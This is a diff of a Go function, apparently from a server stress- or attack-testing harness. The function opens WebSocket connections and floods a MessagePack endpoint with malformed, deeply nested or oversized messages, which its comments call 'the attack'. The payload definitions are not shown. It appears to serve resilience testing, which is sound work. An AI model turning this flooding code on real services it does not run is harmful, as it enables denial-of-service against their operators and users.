@@ -10,37 +10,38 @@ import (
 )
 
 // msgpack sends MessagePack that is deep, declares more than there is, or has
-// many keys: each connection one such message again and again.
+// many keys: two connections each send one such message again and again.
 func msgpack(f *Field) {
-	messages := packedMessages()
-	f.repeat(20, func() error {
-		c, err := f.dial(0)
-		if err != nil {
-			return err
-		}
-		defer c.leave()
-		c.path = msgpackPath
-		if err := c.webSocket(false); err != nil {
-			return err
-		}
-		if _, err := c.Write(appendFrame(nil, final|opBinary, packedMap("type", "\x00", "nsp", packedText("/")))); err != nil {
-			return err
-		}
-		if _, err := c.next(); err != nil {
-			return err
-		}
-		go func() {
-			_ = c.chatter()
-			c.leave() // so that the writing ends
-		}()
-		message := appendFrame(nil, final|opBinary, messages[f.next(len(messages))])
-		for {
-			if _, err := c.Write(message); err != nil {
+	for _, message := range packedMessages() {
+		flood := appendFrame(nil, final|opBinary, message)
+		f.repeat(2, func() error {
+			c, err := f.dial(0)
+			if err != nil {
 				return err
 			}
-			f.count("messages", 1)
-		}
-	})
+			defer c.leave()
+			c.path = msgpackPath
+			if err := c.webSocket(false); err != nil {
+				return err
+			}
+			if _, err := c.Write(appendFrame(nil, final|opBinary, packedMap("type", "\x00", "nsp", packedText("/")))); err != nil {
+				return err
+			}
+			if _, err := c.next(); err != nil {
+				return err
+			}
+			go func() {
+				_ = c.chatter()
+				c.leave() // so that the writing ends
+			}()
+			for {
+				if _, err := c.Write(flood); err != nil {
+					return err
+				}
+				f.count("messages", 1)
+			}
+		})
+	}
 }
 
 // packedMessages are the events that the attack sends.
